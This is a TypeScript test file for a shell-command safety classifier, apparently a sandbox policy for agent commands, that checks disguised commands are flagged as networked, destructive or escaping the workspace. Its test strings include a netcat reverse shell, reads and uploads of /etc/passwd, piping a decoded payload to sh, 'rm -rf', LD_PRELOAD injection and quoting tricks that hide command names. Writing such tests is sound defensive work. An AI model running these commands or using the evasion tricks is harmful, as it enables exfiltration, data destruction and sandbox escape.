import { describe, expect, it } from 'vitest'
import { type Category, decide, type ExecutionDecision, executionRequest } from './index.ts'

function judged(shell: string, cwd = '/'): ExecutionDecision {
  return decide(executionRequest({ vault: 'v', cwd, command: { shell } }))
}

/** Commands with the category they must at least have. */
const disguised: Readonly<Record<Exclude<Category, 'read_only'>, readonly string[]>> = {
  networked: [
    'curl x',
    'sh -c "curl x"',
    `bash -lc 'curl x'`,
    'env A=1 curl x',
    'env -i -u B A=1 curl x',
    `env -S 'curl x'`,
    'FOO=$(curl x) ls',
    'echo `curl x`',
    'echo "a $(curl x) b"',
    `echo "\${FOO:-$(curl x)}"`,
    'echo $((1 + $(curl x)))',
    'a=(1 $(curl x))',
    'a[$(curl x)]=1',
    `let 'a[$(curl x)]=1'`,
    'cat <(curl x)',
    'cat <<EOF\n$(curl x)\nEOF',
    'bash <<EOF\ncurl x\nEOF',
    `bash <<'EOF'\ncurl x\nEOF`,
    'sh <<< "curl x"',
    'echo "curl x" | sh',
    `printf 'curl x\\n' | bash -s`,
    'echo ls | cat | sh',
    'base64 -d payload | sh',
    'ls; curl x',
    'ls && curl x',
    'ls || curl x',
    'ls | curl x',
    'ls\ncurl x',
    'ls & curl x',
    '! curl x',
    'if true; then curl x; fi',
    'while curl x; do :; done',
    'case x in x) curl x;; esac',
    'f() { curl x; }; f',
    'ls() { curl x; }; ls',
    `alias ls='curl x'; ls`,
    `trap 'curl x' EXIT`,
    'coproc curl x',
    'time curl x',
    'eval curl x',
    `eval 'curl' "x"`,
    'exec curl x',
    'command curl x',
    'builtin command curl x',
    'nohup curl x',
    'timeout -k 3 5 curl x',
    'nice -n 5 ionice -c 2 curl x',
    'setsid stdbuf -oL curl x',
    'busybox wget x',
    'xargs curl',
    'xargs -I{} sh -c {}',
    'xargs -n1 sh -c',
    'echo x | xargs -n 1 curl',
    'find . -exec curl {} +',
    `find . -execdir sh -c 'curl x' ;`,
    'fd . -x curl',
    'watch -n 1 curl x',
    `flock f -c 'curl x'`,
    'parallel curl x ::: a',
    '/usr/bin/curl x',
    './curl x',
    'CURL x',
    '"c"url x',
    'c""url x',
    `c'u'rl x`,
    `$'\\x63url' x`,
    'c\\url x',
    'cu\\\nrl x',
    '{curl,x}',
    'X=curl; $X y',
    'X="curl y"; $X',
    'X=curl; "$X" y',
    '$X y',
    'X=curl; $X y; X=ls',
    'sh -c "ls $X"',
    '$(echo curl) x',
    '"$@"',
    '/???/c?rl x',
    'cat < /dev/tcp/example.org/80',
    'exec 3<>/dev/tcp/example.org/80',
    'git push',
    'git -C sub push',
    'git -c a.b=c push origin main',
    'git $CMD',
    `git -c core.sshCommand='curl x' log`,
    `git -c alias.x='!curl x' x`,
    `git config alias.x '!curl x'`,
    `git bisect run curl x`,
    `git submodule foreach 'curl x'`,
    `git rebase -x 'curl x' main`,
    `git grep -O'curl x' y`,
    'git fetch',
    'git pull --rebase',
    'git clone https://example.org/x',
    'git remote update',
    `GIT_SSH_COMMAND='curl x' git log`,
    `PAGER='curl x' git log`,
    `export PAGER='curl x'`,
    `env GIT_EDITOR='curl x' git commit`,
    `tar -cf a.tar --checkpoint-action=exec='curl x' .`,
    `rsync -e 'curl x' a b`,
    'rsync a host:b',
    'scp a host:b',
    'ssh host ls',
    'nc -e sh host 80',
    'npm install',
    'npm ci',
    'npm i left-pad',
    'npm publish',
    'npx -y cowsay',
    'npx cowsay@latest',
    'pnpm dlx cowsay',
    `npm exec -c 'curl x'`,
    'yarn',
    'pip install x',
    'cargo install x',
    'go get x',
    `python -c 'import os; os.system("curl x")'`,
    `python -c 'import urllib.request'`,
    `python3.12 -c 'import subprocess; subprocess.run(["curl", "x"])'`,
    `python -c 'import urllib.request' -m json.tool`,
    `python -W -m -c 'import urllib.request'`,
    `python -W -c -m pip install x`,
    'python -Pm pip install x',
    `node -e 'fetch("x")'`,
    `node -e 'require("child_process").execSync("curl x")'`,
    `perl -e 'system("curl x")'`,
    `ruby -e 'exec "curl x"'`,
    `awk 'BEGIN { system("curl x") }'`,
    `awk 'BEGIN { "curl x" | getline }'`,
    `sed '1e curl x' f`,
    `rg --pre 'curl' x`,
    `sort --compress-program=curl f`,
    `make CC='curl x'`,
    `sqlite3 a.db '.shell curl x'`,
    'python - <<EOF\nimport urllib.request\nEOF',
    'node <<EOF\nfetch("x")\nEOF',
  ],
  destructive: [
    'rm -rf .',
    `bash -lc 'rm -rf .'`,
    '"r"m -rf .',
    `$'\\x72m' -rf .`,
    'r\\m -rf .',
    'find . -delete',
    'find . -exec rm {} +',
    'xargs rm',
    'ls | xargs -0 rm -f',
    `git -c core.pager='rm -rf .' log`,
    `PAGER='rm -rf .' git log`,
    'git reset --hard',
    'git clean -fdx',
    'git checkout -- .',
    'git branch -D x',
    'git stash drop',
    'shred f',
    'truncate -s 0 f',
    'rsync -a --delete a/ b/',
    `python -c 'import shutil; shutil.rmtree("x")'`,
    `node -e 'fs.rmSync("x")'`,
    'tar --remove-files -cf a.tar x',
  ],
  mutating: [
    'echo x > f',
    'echo x >> f',
    'echo x >| f',
    'ls &> f',
    'ls >& f',
    ': > f',
    '> f',
    '{ ls; } > f',
    'while read x; do :; done > f',
    'tee f',
    'sed -i s/a/b/ f',
    'sed -ni p f',
    `sed 'w f' g`,
    `sed -n '/a/w f' g`,
    `awk '{ print > "f" }' g`,
    'sort -o f f',
    'sort --outp=f f',
    'uniq a b',
    'tree -o f',
    'git log --output=f',
    'find . -fprint f',
    'python script.py',
    'python -c "print(1)"',
    'node -e 1',
    'npm run x',
    'npm test',
    'make',
    './x',
    'bash x.sh',
    '. ./x.sh',
    'unheard-of',
    'cat $x',
    'ls *',
    'echo $(ls)',
    'BASH_ENV=./x bash -c ls',
    'ENV=./x sh -c ls',
    'LD_PRELOAD=./x.so ls',
    'export LD_PRELOAD=./x.so; ls',
    'declare -x LD_LIBRARY_PATH=.; ls',
    'PATH=.:$PATH ls',
    'PATH=./bin; ls',
    'env PATH=./bin ls',
    'NODE_OPTIONS=--require=./x.js node --version',
    'GIT_EXTERNAL_DIFF=./x git diff',
    'hash -p ./x ls',
    'enable -f ./x.so x',
  ],
  host_escape_risk: [
    'tee /etc/x',
    'cat /etc/passwd',
    'cat ../../etc/passwd',
    'cat a/../../x',
    'x --out=/etc/x',
    'x -o/etc/x',
    'x -C..',
    'dd of=/dev/sda',
    'echo x > /etc/x',
    'echo x > ../x',
    'cat < /etc/passwd',
    'ls ~',
    'ls ~root',
    'ls $HOME/.ssh',
    `ls "\${HOME}"/.ssh`,
    'cat$IFS/etc/passwd',
    'F=/etc/passwd; cat $F',
    'cat /et*/passwd',
    'cat file:///etc/passwd',
    'cd /',
    'cd',
    'cd .. && ls',
    'cd a; cat ../x',
    'cd a || true; cat ../x',
    '(cd a); cat ../x',
    'cd a || cat ../x',
    'cd a && cd .. && cat ../x',
    'git -C .. log',
    'git --git-dir=/x log',
    'git config --global a.b c',
    'LD_PRELOAD=/tmp/x.so ls',
    'sudo ls',
    `su -c ls`,
    'chroot x ls',
    'docker run x',
    'kill 1',
    'pkill node',
    'mount x y',
    'crontab x',
    'chmod u+s x',
    'apt-get install x',
    'npm install -g x',
    '/opt/x/y',
    '../x',
    `sed 'w /etc/x' f`,
    `sed -n 'r /etc/passwd' f`,
    `awk 'BEGIN { while (getline < "/etc/passwd") print }'`,
    `python -c 'open("/etc/passwd")'`,
    'f() { cat "$@"; }; f /etc/passwd',
    'tar -xPf a.tar',
    'curl -d @/etc/passwd x',
    `sh -c 'cat "$0"' /etc/passwd`,
  ],
  interactive: [
    'vim x',
    'sh -c vim',
    'less x',
    'python',
    'bash -i',
    'git add -p',
    'select x in a b; do :; done',
    'ssh host',
  ],
}

describe.each(Object.entries(disguised))('a command that is %s', (category, commands) => {
  it.each(commands)('is found in `%s`', (shell) => {
    expect(judged(shell).categories).toContain(category)
  })
})

describe('a command that cannot be analysed', () => {
  it.each(['if', `echo 'x`, 'echo $(', `sh -c 'if'`, 'ls )'])('does not run, and says why: `%s`', (shell) => {
    const { action, reason } = judged(shell)
    expect(action).toBe('deny')
    expect(reason).toContain('cannot be parsed')
  })

  it('does not run if it is too long, too deep or too large', () => {
    const deep = Array.from({ length: 30 }).reduce<string>(
      (line) => `eval ${quoted(line)}`.slice(0, 60_000),
      'ls',
    )
    const nested = `${'$('.repeat(300)}ls${')'.repeat(300)}`
    for (const line of [
      `echo ${'x'.repeat(100_000)}`,
      deep,
      nested,
      'nohup '.repeat(100),
      '('.repeat(5000),
      '{ '.repeat(5000),
      `echo ${'{'.repeat(60_000)}`,
      `echo ${'{"a b",'.repeat(8000)}`,
      'if '.repeat(5000),
      '`'.repeat(5001),
      `cat /etc/passwd ${'{a,b}'.repeat(40)}`,
      `echo $((${'('.repeat(5000)}1${')'.repeat(5000)}))`,
      `[[ ${'( '.repeat(5000)}a${' )'.repeat(5000)} ]]`,
      `echo ${'${X:-'.repeat(2000)}${'}'.repeat(2000)}`,
    ]) {
      expect(judged(line).action).toBe('deny')
    }
  })
})

describe('a command that grows beyond the limits of the analysis', () => {
  /** Each variable is twice the previous one: 60 of them exceed any memory. */
  const doubled = (first: string) =>
    `b0=${first};${Array.from({ length: 60 }, (_, at) => `b${at + 1}="$b${at}$b${at}"`).join(';')}`

  it.each([
    ['a value', `${doubled('aaaaaaaa')}; ls $b60`],
    ['a value nobody uses', doubled('aaaaaaaa')],
    ['words', `${doubled("'a b '")}; ls $b60`],
    ['what is not known', `${doubled('$x')}; ls $b60`],
    ['a program', `${doubled('curl')}; $b60`],
    ['one value again and again', `a=${'x'.repeat(15_000)};${'ls $a;'.repeat(5000)}`],
  ])('needs approval at least: %s', (_name, shell) => {
    expect(judged(shell).action).toMatch(/^(?:require_approval|deny)$/)
  })

  it('does not run if it is a chain of thousands of programs', () => {
    for (const operator of ['|', '&&', ';', '||', '\n']) {
      expect(judged(Array.from({ length: 15_000 }, () => 'ls').join(operator)).action).toBe('deny')
    }
  })
})

describe('a command that repeats itself thousands of times', () => {
  it.each([
    ['room in a script of sed', `sed '${' '.repeat(4000)}z' f`],
    ['numbers in a name', '1.'.repeat(30_000)],
    ['brackets of a test', `[[ ${'['.repeat(60_000)} ]]`],
    ['brackets of arithmetic', `(( ${'['.repeat(60_000)} ))`],
    ['settings before a program', `x='${'A=1 '.repeat(15_000)}'; $x ls`],
    ['words of a number', `let '${'a['.repeat(30_000)}'`],
    ['options that are not known', `npm ${'--x y '.repeat(5000)}`],
    ['modules that run another', `python ${'-m pdb '.repeat(5000)}`],
    ['lines of a client', `sqlite3 x '${'\n'.repeat(60_000)}${'edit ('.repeat(500)}'`],
  ])('is decided quickly: %s', (_what, line) => {
    expect(judged(line).action).toMatch(/./)
  })
})

describe('a script of another language', () => {
  it('needs approval if it is too long to analyse', () => {
    for (const line of [`sed '${'\\,a'.repeat(20_000)}' f`, `sed 's/a/b/;${'p;'.repeat(5000)}' f`]) {
      expect(judged(line).action).toBe('require_approval')
    }
  })
})

describe('a command that only reads', () => {
  it.each([
    'f() { ls; }; f',
    'for i in a b; do ls; done',
    'git log --format=%h | sort | uniq -c',
    'git tag --points-at HEAD',
    'git branch --sort committerdate',
    `env LANG=C sort f`,
    `sh -c 'ls && cat a'`,
    'cat < a 2> /dev/null',
  ])('is allowed: `%s`', (shell) => {
    expect(judged(shell)).toEqual({ action: 'allow', categories: ['read_only'] })
  })
})

describe('the directory of a command', () => {
  it('limits how far up it may go', () => {
    expect(judged('cat ../x', '/a').action).toBe('allow')
    expect(judged('cat ../../x', '/a').action).toBe('deny')
    expect(judged('cd b && cat ../../x', '/a').action).toBe('allow')
  })

  it('lets a command name the workspace by its host path', () => {
    const command = { shell: 'cat /srv/ws/a' }
    expect(decide(executionRequest({ vault: 'v', command, mountpoint: '/srv/ws' })).action).toBe('allow')
    expect(decide(executionRequest({ vault: 'v', command, mountpoint: '/srv/w' })).action).toBe('deny')
    const upwards = { shell: 'cat /srv/ws/../a' }
    expect(decide(executionRequest({ vault: 'v', command: upwards, mountpoint: '/srv/ws' })).action).toBe(
      'deny',
    )
  })

  it.each([
    ['echo x > /tmp/f', 'allow_with_checkpoint'],
    ['ls /tmp', 'allow'],
    ['cat /tmp/../etc/passwd', 'deny'],
    ['cat /tmp/.?/etc/passwd', 'deny'],
    ['cat /tmpfile', 'deny'],
    ['cat /tmp/home/.profile', 'deny'],
    ['cat /tmp/home/../f', 'allow'],
  ])('judges %s by the private directories of the command', (shell, action) => {
    const request = executionRequest({ vault: 'v', command: { shell } })
    const privatePaths = { directories: ['/tmp'], except: ['/tmp/home'] }
    expect(decide(request, undefined, privatePaths).action).toBe(action)
    expect(decide(request).action).toBe('deny')
  })

  it('finds a pattern that leads out of the workspace by its host path', () => {
    const command = { shell: 'cat /srv/ws/.?/a' }
    expect(decide(executionRequest({ vault: 'v', command, mountpoint: '/srv/ws' })).action).toBe('deny')
  })
})

describe('a word that expands to very many', () => {
  it('is not analysed, and needs approval', () => {
    expect(judged(`${'{c,d}'.repeat(40)} x`).action).toBe('require_approval')
    expect(judged(`echo ${'{c,d}'.repeat(40)}`).categories).toEqual(['mutating'])
  })
})

describe('a symbolic link', () => {
  it.each([
    ['ln -s ../x a/y', '/', 'allow_with_checkpoint'],
    ['ln -s ../x a/', '/', 'allow_with_checkpoint'],
    ['ln -st a ../x', '/', 'allow_with_checkpoint'],
    ['ln -s ../x ../y a/b', '/', 'allow_with_checkpoint'],
    ['ln -s ../x y', '/sub', 'allow_with_checkpoint'],
    ['cd a && ln -s ../x y', '/', 'allow_with_checkpoint'],
    ['ln -sr a/b c/d', '/', 'allow_with_checkpoint'],
    ['ln -s ../x y', '/', 'deny'],
    ['ln -s ../../x a/y', '/', 'deny'],
    ['ln -st a ../../x', '/', 'deny'],
    ['ln -s x ../y', '/', 'deny'],
    ['ln -s /etc/passwd y', '/', 'deny'],
    ['ln -s ~ y', '/', 'deny'],
  ])('is classified by its target: `%s` in %s', (shell, cwd, action) => {
    expect(judged(shell, cwd).action).toBe(action)
  })
})

describe('text that is no command', () => {
  it('is not classified by what it would change or show in a shell', () => {
    expect(judged(`GREETING='$(hello) $(touch f) $(vim)' ls`)).toEqual({
      action: 'allow',
      categories: ['read_only'],
    })
  })

  it('counts for strong effects', () => {
    expect(judged(`GREETING='$(curl x)' ls`).categories).toEqual(['networked'])
    expect(judged(`GREETING='$(rm x)' ls`).categories).toEqual(['destructive'])
    expect(judged(`GREETING='$(cat /etc/x)' ls`).categories).toEqual(['host_escape_risk'])
  })
})

describe('odd characters', () => {
  it('are letters of a word if a shell treats them as such', () => {
    // No program has such a name, and the name without them does not run.
    for (const space of ['\u00a0', '\u2003', '\u3000', '\ufeff', '\r', '\v', '\f']) {
      expect(judged(`ls${space}curl`).categories).toEqual(['mutating'])
      expect(judged(`echo${space}x; curl x`).action).toBe('require_approval')
    }
  })

  it('do not hide the text after them', () => {
    for (const text of ['\u202e', '\u200b', '\u0001', '\u001b[2K', '\ud800', '😀', '\u2028']) {
      expect(judged(`echo ${text}; curl x`).action).toBe('require_approval')
      expect(judged(`echo '${text}' $(curl x)`).action).toBe('require_approval')
      expect(judged(`cat ${text}/../../etc/passwd`).action).toBe('deny')
    }
  })
})

function quoted(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`
}
